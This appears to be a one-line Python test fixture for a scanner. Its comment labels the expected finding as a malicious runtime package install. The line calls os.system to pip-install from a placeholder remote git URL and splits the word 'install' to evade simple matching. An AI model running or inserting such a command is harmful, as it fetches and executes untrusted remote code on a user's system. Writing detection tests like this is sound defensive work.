import os

os.system(" ".join(["pip", "in" + "stall", "git+https://git.collect.example/x"])) # expect: malicious-command/package-manager-runtime-install
